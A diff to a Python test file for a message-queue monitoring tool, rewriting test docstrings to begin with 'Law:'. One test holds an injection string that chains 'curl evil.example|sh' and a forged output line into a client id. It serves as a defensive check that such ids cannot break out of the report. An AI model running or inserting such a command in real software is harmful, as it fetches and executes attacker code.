@@ -33,7 +33,7 @@ def status(**watch: Any) -> dict[str, Any]:
 
 
 def test_findings_of_all_brokers_are_gathered_and_others_left_out() -> None:
-    """Of one group only; the greatest age counts; brokers that do not report it are passed over."""
+    """Law: findings of all brokers are merged for one group; the greatest age counts, and brokers without a report are skipped."""
     lag = [{"group": "billing", "topic": "orders", "messages": 5, "seconds": 12.5}]
     other = {**BLOCKED, "group": "shipping"}
     duplicate = {"clientId": "c", "addresses": ["a:1", "b:2"], "groups": ["billing", "x"]}
@@ -54,7 +54,7 @@ def test_findings_of_all_brokers_are_gathered_and_others_left_out() -> None:
 
 
 def test_each_finding_is_a_line_with_what_to_do() -> None:
-    """A line names the message, its key, the time and the holder; then the way out."""
+    """Law: each finding is a line with message, key, time and holder, and what to do."""
     disagreeing = {"group": "billing", "members": ["a", "b"], "difference": "topic orders: * and x"}
     expiring = {
         "group": "billing",
@@ -96,7 +96,7 @@ def test_each_finding_is_a_line_with_what_to_do() -> None:
 
 
 def test_a_blocked_queue_shows_what_its_listener_said() -> None:
-    """Tries and error where the consumer reports them, when it was called last, and else that it does not."""
+    """Law: a blocked queue shows the listener's tries, error and last call, or that the consumer does not report them."""
     told = {
         "listener": "its listener has failed 12 times, last with ValueError: no such order",
         "listenerCalled": 1_700_000_060_000,
@@ -129,7 +129,7 @@ def test_a_holder_that_is_away_has_no_log_to_read() -> None:
 
 
 def test_many_findings_do_not_hide_the_queues() -> None:
-    """Ten lines and how many more there are."""
+    """Law: at most ten findings are shown, with the number of the others."""
     found = findings([status(blocked=[BLOCKED] * 25)], "billing")
 
     assert len(lines(found)) == 11
@@ -137,7 +137,7 @@ def test_many_findings_do_not_hide_the_queues() -> None:
 
 
 def test_what_clients_choose_begins_no_line_and_no_command() -> None:
-    """A producer chooses the id of its message, and a member its client id."""
+    """Law: ids chosen by clients cannot start a new line or a shell command."""
     hostile = "ID2;curl evil.example|sh\nBlocked: none"
     disagreeing = {
         "group": "billing",
@@ -166,7 +166,7 @@ def test_one_is_no_plural() -> None:
 
 
 def test_a_listener_that_hangs_is_reported_with_its_call_and_the_way_out() -> None:
-    """A reset would pass over what follows; the stack says why it hangs."""
+    """Law: a hanging listener is shown with its call and the way out (stack, restart, skip), not a reset."""
     told = {
         "listener": "its listener was called and has not returned",
         "listenerRunning": True,
@@ -181,7 +181,7 @@ def test_a_listener_that_hangs_is_reported_with_its_call_and_the_way_out() -> No
 
 
 def test_a_queue_of_lanes_is_not_to_be_reset() -> None:
-    """A reset ends what all lanes of the queue owe, and not the message that it stands at alone."""
+    """Law: for a queue with lanes no reset is advised, because it would drop what all lanes owe."""
     (said,) = lines(findings([status(blocked=[{**BLOCKED, "byKey": True}])], "billing"))
 
     assert "The group consumes by key: look at its lanes" in said
